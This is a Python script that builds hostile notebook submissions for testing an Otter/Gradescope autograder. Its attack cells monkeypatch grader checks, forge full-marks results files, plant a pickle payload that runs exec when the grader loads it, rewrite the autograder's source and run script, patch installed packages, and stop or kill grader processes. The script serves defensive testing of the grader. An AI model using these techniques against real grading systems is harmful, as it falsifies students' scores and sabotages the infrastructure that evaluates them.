"""Write the hostile submissions used by ``tests/test_autograder.py``.

Each is the Lab 07 cloud reference notebook (``solutions/lab07/reference-cloud.ipynb``)
with attack cells added; when Otter runs it, the attack runs in the student's kernel:

- ``monkeypatch-grader-and-edit-numbers.ipynb`` — replaces ``mlsys_grader``'s checks so every
  kernel-side test passes, and halves a recorded number in the saved bundle;
- ``replace-otter-test-runner.ipynb`` — replaces Otter's test-running functions so every
  test case reports "passed";
- ``forge-bundle-and-results.ipynb`` — overwrites the bundle with a full-marks one and
  writes forged Gradescope results files;
- ``pickle-payload-for-runner.ipynb`` — makes the kernel's results file a pickle that runs
  code when loaded, leaves pickles where the runner might read them and sends one to the
  runner's logging socket; the payload writes the file named by ``MLSYS_HOSTILE_MARKER``;
- ``kill-kernel-mid-run`` — ends the kernel process before Otter's last cell, so no kernel
  results exist, and ``never-finishes`` — a cell that loops forever (they show that a dead or
  hung kernel still gets its score of record).

Attacks on the Gradescope container itself (each acts only where ``/autograder/submission_metadata.json``
exists, so running one by mistake on a workstation does nothing; the tests run them only in
the Gradescope emulator):

- ``detached-process-rewrites-results`` — starts a process in a new session that outlives the
  notebook, waits for ``/autograder/results/results.json`` and rewrites it with full marks;
- ``edit-autograder-source`` — rewrites the autograder's tests and ``otter_config.json`` and
  plants a ``mlsys_grader`` package in ``/autograder/source`` to shadow the grader;
- ``edit-run-autograder`` — appends a line to ``/autograder/run_autograder`` that would write
  forged results after grading (bash reads that script while it runs);
- ``edit-grader-install`` — patches the installed ``mlsys_grader`` and ``otter`` files of the
  grading environment and drops a ``.pth`` file into its ``site-packages``;
- ``signal-grader`` — stops and kills every process of the grader (``SIGSTOP`` would leave
  the run hanging until Gradescope's timeout, which scores 0).

The tests pair each notebook with the bundle "actually submitted" (see :func:`submitted_bundle`).
Regenerate with ``python tests/hostile/make_hostile.py``; the output is committed.
"""

from __future__ import annotations

import inspect
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HERE = Path(__file__).parent
ROOT = HERE.parents[1]
BASE = ROOT / "solutions" / "lab07" / "reference-cloud.ipynb"
LAB = "lab07"


def tamper_numbers(text: str) -> str:
    """Halve the first float in part A's result and re-seal the bundle, as an editor of the JSON would."""
    from mlsys_grader import Bundle, load_bundle

    data = load_bundle(text).model_dump(mode="json")  # the current schema, whatever version was saved

    def halve(node):
        for key, value in node.items():
            if isinstance(value, float) and value:
                node[key] = value / 2
                return True
            if isinstance(value, dict) and halve(value):
                return True
        return False

    halve(data["evidence"]["A"]["result"])
    return Bundle.model_validate(data).sealed().to_json()


def drop_parts(text: str, parts: tuple[str, ...]) -> str:
    """The bundle without the evidence of ``parts`` (a student who stopped early), re-sealed."""
    from mlsys_grader import Bundle, load_bundle

    data = load_bundle(text).model_dump(mode="json")
    for part in parts:
        data["evidence"].pop(part, None)
    return Bundle.model_validate(data).sealed().to_json()


def submitted_bundle(name: str, reference_bundle: str) -> str:
    """The bundle submitted with hostile notebook ``name`` (JSON text)."""
    if name == "monkeypatch-grader-and-edit-numbers":
        return tamper_numbers(reference_bundle)
    return drop_parts(reference_bundle, ("D", "E"))


MONKEYPATCH_EARLY = '''\
# HOSTILE: every mlsys_grader check passes in this kernel
import mlsys_grader, mlsys_grader.api, mlsys_grader.otter, mlsys_grader.student
mlsys_grader.student.assert_item = mlsys_grader.otter.assert_item = lambda *args, **kwargs: None
_real_grade = mlsys_grader.api.grade_bundle
def _always_full(bundle, rubric=None):
    report = _real_grade(bundle, rubric)
    parts = {name: part.model_copy(update={"score": part.max_score,
             "items": [item.model_copy(update={"points": item.max_points}) for item in part.items]})
             for name, part in report.parts.items()}
    return report.model_copy(update={"score": report.max_score, "parts": parts, "findings": [], "flags": []})
mlsys_grader.api.grade_bundle = mlsys_grader.grade_bundle = _always_full
'''

EDIT_NUMBERS_LATE = (
    "# HOSTILE: edit the recorded numbers in the saved bundle\n"
    "import json\n"
    + inspect.getsource(tamper_numbers)
    + "from pathlib import Path\n"
    "_path = Path('lab07-submission.json')\n"
    "_path.write_text(tamper_numbers(_path.read_text()))\n"
)

REPLACE_OTTER = '''\
# HOSTILE: replace Otter's test-running functions so every case passes
import otter
import otter.test_files.abstract_test as _abstract
import otter.test_files.exception_test as _exception
import otter.test_files.ok_test as _ok
from otter.execute import Checker

def _all_pass(self, global_environment):
    self.test_case_results = [_abstract.TestCaseResult(test_case=case, message="passed", passed=True)
                              for case in self.test_cases]
_exception.ExceptionTestFile.run = _all_pass
_ok.OKTestFile.run = _all_pass
_abstract.TestFile.score = property(lambda self: self.possible)
_real_check = Checker.check
@classmethod
def _check(cls, nb_or_test_path, test_name=None, global_env=None):
    result = _real_check.__func__(cls, nb_or_test_path, test_name, global_env)
    _all_pass(result, None)
    return result
Checker.check = _check
'''

FORGE_FILES = '''\
# HOSTILE: forge a full-marks bundle and the runner's results files
import json
from pathlib import Path
from mlsys_grader import solve
Path("lab07-submission.json").write_text(solve("lab07", "cloud").to_json())
_forged = {"score": 100.0, "tests": [{"name": "Public checks", "score": 100.0, "max_score": 100.0}]}
for _target in ("../results/results.json", "results.json", "../results/results.pkl"):
    try:
        Path(_target).write_text(json.dumps(_forged))
    except OSError:
        pass
'''

PICKLE_PAYLOAD = '''\
# HOSTILE: leave pickle payloads for the runner (results file, log socket, stray files)
import os, pickle, re, socket, struct
MARKER = os.environ.get("MLSYS_HOSTILE_MARKER", "/tmp/mlsys-hostile-pickle-ran")

class Payload:
    def __reduce__(self):
        code = ("import pathlib; pathlib.Path(%r).write_text('a pickle payload ran in the grading process')" % MARKER)
        return (exec, (code,))

_payload = pickle.dumps(Payload())
_real_dump = pickle.dump
def _evil_dump(obj, handle, *args, **kwargs):
    handle.write(_payload)          # the kernel's results file becomes the payload
pickle.dump = _evil_dump

for _name in (".OTTER_LOG", "results.pkl", "../results/results.pkl"):
    try:
        with open(_name, "wb") as _handle:
            _handle.write(_payload)
    except OSError:
        pass

_history = "\\n".join(get_ipython().user_ns.get("In", []))
_found = re.search(r'send_logs\\("([^"]+)", (\\d+)\\)', _history)
if _found:
    try:
        with socket.create_connection((_found.group(1), int(_found.group(2))), timeout=2) as _sock:
            _sock.sendall(struct.pack(">L", len(_payload)) + _payload)
    except OSError:
        pass
'''

KILL_KERNEL = '''\
# HOSTILE: kill the kernel, so Otter never gets results back from it
import os
os._exit(1)
'''

NEVER_FINISH = '''\
# HOSTILE: never finish, to use up the grader's time
while True:
    pass
'''

CONTAINER_ONLY = "import os\nif not os.path.isfile('/autograder/submission_metadata.json'):\n    raise SystemExit('not in a Gradescope container')\n"


def _guarded(cell: str) -> str:
    """The cell with :data:`CONTAINER_ONLY` after its first (comment) line."""
    first, _, rest = cell.partition("\n")
    return first + "\n" + CONTAINER_ONLY + rest

DETACHED_FORGER = _guarded('''\
# HOSTILE: a process in its own session outlives the notebook and rewrites Gradescope's results
import subprocess, sys
FORGER = r"""
import json, time
path = "/autograder/results/results.json"
forged = {"score": 100.0, "output": "forged", "tests": [{"name": "Part A", "score": 100.0, "max_score": 100.0}]}
end = time.time() + 900
while time.time() < end:
    try:
        with open(path) as handle:
            current = json.load(handle)
        if current.get("output") != "forged":
            with open(path, "w") as handle:
                json.dump(forged, handle)
    except (OSError, ValueError):
        pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", FORGER], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
''')

EDIT_SOURCE = _guarded('''\
# HOSTILE: rewrite the autograder's tests and config, and plant a package that shadows the grader
import glob, json
refused = []
def attempt(action):
    try:
        action()
    except OSError as exc:
        refused.append(str(exc))
for path in glob.glob("/autograder/source/tests/*.py"):
    attempt(lambda path=path: open(path, "a").write("\\n# all tests pass\\n"))
def _config():
    config = json.load(open("/autograder/source/otter_config.json"))
    config["plugins"] = []
    json.dump(config, open("/autograder/source/otter_config.json", "w"))
attempt(_config)
def _shadow():
    os.makedirs("/autograder/source/mlsys_grader/gradescope", exist_ok=True)
    open("/autograder/source/mlsys_grader/__init__.py", "w").write("raise SystemExit('shadowed')\\n")
attempt(_shadow)
if refused:
    raise PermissionError("; ".join(refused))
''')

EDIT_RUN_AUTOGRADER = _guarded('''\
# HOSTILE: append a line to run_autograder that writes forged results after grading
line = "\\necho '{\\"score\\": 100.0, \\"tests\\": []}' > /autograder/results/results.json\\n"
with open("/autograder/run_autograder", "a") as handle:
    handle.write(line)
''')

EDIT_INSTALL = _guarded('''\
# HOSTILE: patch the grading environment's installed mlsys_grader and otter, and add a .pth file
import site
import mlsys_grader, otter
PATCH = "\\n_forge = gradescope_results\\ndef gradescope_results(*a, **k):\\n    d = _forge(*a, **k)\\n    d['score'] = 100.0\\n    return d\\n"
targets = [os.path.join(os.path.dirname(mlsys_grader.__file__), "gradescope", "_results.py"),
           os.path.join(os.path.dirname(otter.__file__), "test_files", "__init__.py")]
refused = []
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write(PATCH)
    except OSError as exc:
        refused.append(str(exc))
for folder in site.getsitepackages():
    try:
        with open(os.path.join(folder, "zz-forge.pth"), "w") as handle:
            handle.write("import os; os.environ['MLSYS_FORGED'] = '1'\\n")
    except OSError as exc:
        refused.append(str(exc))
if refused:
    raise PermissionError("; ".join(refused))
''')

SIGNAL_GRADER = _guarded('''\
# HOSTILE: stop, then kill, every process of the grader (a stopped grader never writes its results)
import signal
refused, me = [], os.getpid()
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) in (me, os.getppid()):
        continue
    try:
        command = open(f"/proc/{entry}/cmdline", "rb").read().replace(b"\\0", b" ").decode()
    except OSError:
        continue
    if "mlsys_grader.gradescope /autograder" in command or "run_autograder" in command or entry == "1":
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(entry), sig)
            except OSError as exc:
                refused.append(f"{entry}: {exc}")
if refused:
    raise PermissionError("; ".join(refused))
''')

ATTACKS = {
    "monkeypatch-grader-and-edit-numbers": (MONKEYPATCH_EARLY, EDIT_NUMBERS_LATE),
    "replace-otter-test-runner": (REPLACE_OTTER, None),
    "forge-bundle-and-results": (FORGE_FILES, FORGE_FILES),
    "pickle-payload-for-runner": (None, PICKLE_PAYLOAD),
    "kill-kernel-mid-run": (None, KILL_KERNEL),
    "never-finishes": (None, NEVER_FINISH),
    "detached-process-rewrites-results": (None, DETACHED_FORGER),
    "edit-autograder-source": (None, EDIT_SOURCE),
    "edit-run-autograder": (None, EDIT_RUN_AUTOGRADER),
    "edit-grader-install": (None, EDIT_INSTALL),
    "signal-grader": (None, SIGNAL_GRADER),
}
CONTAINER_ATTACKS = ("detached-process-rewrites-results", "edit-autograder-source", "edit-run-autograder",
                     "edit-grader-install", "signal-grader")


def hostile(name: str) -> nbformat.NotebookNode:
    early, late = ATTACKS[name]
    notebook = nbformat.read(BASE, as_version=4)
    cells = list(notebook.cells)
    opener = next(i for i, cell in enumerate(cells) if cell.cell_type == "code" and "open_lab(" in cell.source)
    export = max(i for i, cell in enumerate(cells) if cell.cell_type == "code" and ".export(" in cell.source)
    if late:
        cells.insert(export, new_code_cell(late))
    if early:
        cells.insert(opener + 1, new_code_cell(early))
    notebook.cells = cells
    return notebook


def main() -> None:
    for name in ATTACKS:
        target = HERE / f"{name}.ipynb"
        nbformat.write(hostile(name), target)
        print(f"wrote {target}")


if __name__ == "__main__":
    main()
